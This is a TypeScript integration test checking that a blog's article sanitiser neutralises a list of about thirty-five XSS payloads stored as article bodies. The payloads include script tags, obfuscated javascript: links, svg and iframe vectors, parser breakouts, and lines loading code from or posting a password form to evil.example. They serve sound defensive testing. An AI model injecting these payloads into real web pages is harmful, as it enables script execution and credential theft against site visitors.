import { eq } from "drizzle-orm";
import { type DefaultTreeAdapterMap, parseFragment } from "parse5";
import { afterAll, describe, expect, it } from "vitest";
import { blogPosts } from "~/db/schema";
import { connectTestDatabase } from "../../../tests/integration/database";
import { findArticle } from "./posts.server";

// Each payload is stored as an article body, read back the way the article page reads it, and the
// resulting HTML is parsed as a browser would: no payload may survive as active markup.
const db = connectTestDatabase();

const payloads: [name: string, html: string][] = [
  ["script tag", "<p>ciao</p><script>alert(1)</script>"],
  ["script tag, odd case and attributes", '<ScRiPt type="module" src="https://evil.example/x.js"></ScRiPt>'],
  ["img onerror", "<img src=x onerror=alert(1)>"],
  ["event handler on an allowed tag", '<p onclick="alert(1)" onmouseover="alert(2)">testo</p>'],
  ["javascript: link", '<a href="javascript:alert(1)">clicca</a>'],
  ["javascript: link, upper case", '<a href="JAVASCRIPT:alert(1)">clicca</a>'],
  ["javascript: link, entity-encoded", '<a href="jav&#x61;script&colon;alert(1)">clicca</a>'],
  [
    "javascript: link, decimal entities",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  ],
  ["javascript: link, tab and newline inside", '<a href="java\tscr\nipt:alert(1)">clicca</a>'],
  ["javascript: link, leading spaces and control characters", '<a href=" \u0001javascript:alert(1)">x</a>'],
  ["vbscript: link", '<a href="vbscript:msgbox(1)">x</a>'],
  ["svg onload", "<svg onload=alert(1)><circle r=10 /></svg>"],
  ["svg with script inside", "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>"],
  ["math with a javascript: link", '<math><mi xlink:href="javascript:alert(1)">m</mi></math>'],
  ["style tag", "<style>body{background:url(javascript:alert(1))}</style><p>ok</p>"],
  ["style attribute", '<p style="background:url(javascript:alert(1))">x</p>'],
  ["iframe", '<iframe src="https://evil.example"></iframe>'],
  ["iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ["unclosed iframe swallowing markup", "<iframe><img src=x onerror=alert(1)>"],
  ["object and embed", '<object data="evil.swf"></object><embed src="evil.swf">'],
  ["data: image", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ["data: link", '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ["protocol-relative image", '<img src="//evil.example/pixel.gif">'],
  ["form and input", '<form action="https://evil.example"><input name="password"><button>Invia</button></form>'],
  ["meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ["base tag", '<base href="https://evil.example/">'],
  ["link stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ["escaped markup stays text", "&lt;script&gt;alert(1)&lt;/script&gt;"],
  ["double-encoded entities", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"],
  ["markup in an attribute value", '<img alt="<script>alert(1)</script>" src="/files/x.svg">'],
  ["comment breaking out", "<!--><script>alert(1)</script>-->"],
  ["noscript breaking out", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ["textarea breaking out", "<textarea></textarea><script>alert(1)</script></textarea>"],
  ["template", "<template><script>alert(1)</script></template>"],
  ["id clobbering", '<h2 id="main">Titolo</h2><a id="main" name="x">y</a>'],
];

type Node = DefaultTreeAdapterMap["childNode"];

/** Every element of the parsed fragment (template contents included). */
function elements(nodes: Node[]): DefaultTreeAdapterMap["element"][] {
  return nodes.flatMap((node) => {
    if (!("tagName" in node)) return [];
    const children = "content" in node ? [...node.childNodes, ...node.content.childNodes] : node.childNodes;
    return [node, ...elements(children as Node[])];
  });
}

const allowedTags = new Set(
  "h2 h3 h4 p br hr ul ol li a strong em b i u s blockquote img figure figcaption".split(" "),
);
const allowedAttributes = new Set(["href", "title", "rel", "target", "src", "alt", "width", "height", "loading", "id"]);

const slugs: string[] = [];

afterAll(async () => {
  for (const slug of slugs) await db.delete(blogPosts).where(eq(blogPosts.slug, slug));
});

describe("an article body on the page", () => {
  it.each(payloads)("neutralises %s", async (_name, payload) => {
    const slug = `test-xss-${slugs.length + 1}`;
    slugs.push(slug);
    await db.insert(blogPosts).values({
      slug,
      title: "Prova",
      excerpt: "Prova",
      contentHtml: `<h2>Inizio</h2>${payload}<h2>Fine</h2>`,
      publishedAt: new Date("2020-01-01T00:00:00Z"),
      author: "Test",
      category: "Prove",
    });
    const article = await findArticle(db, slug);
    const html = article?.html ?? "";

    for (const element of elements(parseFragment(html).childNodes as Node[])) {
      expect(allowedTags, `<${element.tagName}> in ${html}`).toContain(element.tagName);
      for (const { name, value } of element.attrs) {
        expect(allowedAttributes, `${name}= in ${html}`).toContain(name);
        if (name === "href" || name === "src") {
          // What a browser would run: the URL without whitespace or control characters.
          // biome-ignore lint/suspicious/noControlCharactersInRegex: stripping them is the point
          const url = value.replace(/[\u0000-\u0020]/g, "").toLowerCase();
          expect(url, `${name}="${value}"`).not.toMatch(/^(javascript|vbscript|data):|^\/\//);
        }
        if (name === "id") expect(["inizio", "fine", "titolo"]).toContain(value);
      }
      if (element.tagName === "a") expect(element.attrs).toContainEqual({ name: "rel", value: "noopener" });
    }
    // The heading before the payload is still a table-of-contents anchor.
    expect(article?.toc[0]).toEqual({ id: "inizio", text: "Inizio" });
  });

  it("keeps the article's own formatting", async () => {
    const slug = "test-xss-formatting";
    slugs.push(slug);
    const body =
      '<h2>Uno</h2><p>Testo <strong>forte</strong> e <em>enfasi</em>, un <a href="https://example.it/pagina" title="Esempio">link</a> e una <a href="/shop">pagina</a>.</p>' +
      "<ul><li>a</li></ul><ol><li>b</li></ol><blockquote><p>citazione</p></blockquote><h2>Due</h2><h3>Sotto</h3>" +
      '<figure><img src="/files/blog/x.svg" alt="Foto"><figcaption>Didascalia</figcaption></figure><a href="mailto:info@example.it">scrivici</a>';
    await db.insert(blogPosts).values({
      slug,
      title: "Prova",
      excerpt: "Prova",
      contentHtml: body,
      publishedAt: new Date("2020-01-01T00:00:00Z"),
      author: "Test",
      category: "Prove",
    });
    const article = await findArticle(db, slug);
    expect(article?.html).toBe(
      '<h2 id="uno">Uno</h2><p>Testo <strong>forte</strong> e <em>enfasi</em>, un <a href="https://example.it/pagina" title="Esempio" rel="noopener">link</a> e una <a href="/shop" rel="noopener">pagina</a>.</p>' +
        '<ul><li>a</li></ul><ol><li>b</li></ol><blockquote><p>citazione</p></blockquote><h2 id="due">Due</h2><h3 id="sotto">Sotto</h3>' +
        '<figure><img src="/files/blog/x.svg" alt="Foto" loading="lazy" /><figcaption>Didascalia</figcaption></figure><a href="mailto:info@example.it" rel="noopener">scrivici</a>',
    );
    expect(article?.toc).toEqual([
      { id: "uno", text: "Uno" },
      { id: "due", text: "Due" },
    ]);
  });
});
